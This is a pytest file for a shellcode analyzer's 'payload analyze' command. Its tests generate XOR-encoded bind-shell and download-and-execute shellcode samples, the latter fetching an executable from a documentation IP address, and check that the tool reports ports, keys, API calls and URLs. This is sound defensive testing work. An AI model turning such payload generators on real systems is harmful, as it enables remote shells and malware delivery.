"""``stormwatch payload analyze FILE`` through click's CliRunner."""

from __future__ import annotations

import json
from pathlib import Path

from click.testing import CliRunner

import shellcode_vectors as v
from stormwatch.cli.payload_cmd import payload


def test_analyze_table_and_json(tmp_path: Path) -> None:
    f = tmp_path / "sample.bin"
    f.write_bytes(v.exploit_argument(v.xor8_callpop(v.bind_shell(31337), 0x42)))
    res = CliRunner().invoke(payload, ["analyze", str(f)])
    assert res.exit_code == 0, res.output
    assert "tcp/31337" in res.output and "xor8" in res.output and "exit_api ExitThread" in res.output
    res = CliRunner().invoke(payload, ["analyze", str(f), "--format", "json"])
    doc = json.loads(res.output)
    assert doc["binds"] == [31337] and doc["key"] == "42" and doc["api_profile"].startswith("LoadLibraryA")


def test_static_only_and_offers(tmp_path: Path) -> None:
    f = tmp_path / "dl.bin"
    f.write_bytes(v.xor8_callpop(v.download_exec("http://198.51.100.4/x.exe", "x.exe"), 0x11))
    res = CliRunner().invoke(payload, ["analyze", str(f), "--static-only", "--format", "json"])
    doc = json.loads(res.output)
    assert doc["stop_reason"] == "not_emulated" and doc["api_calls"] == []
    assert doc["urls"] == ["http://198.51.100.4/x.exe"]  # read from the statically decoded body
    res = CliRunner().invoke(payload, ["analyze", str(f)])
    assert "http://198.51.100.4/x.exe (198.51.100.4:80:http, file x.exe)" in res.output


def test_missing_file_is_a_usage_error(tmp_path: Path) -> None:
    res = CliRunner().invoke(payload, ["analyze", str(tmp_path / "nope")])
    assert res.exit_code == 2
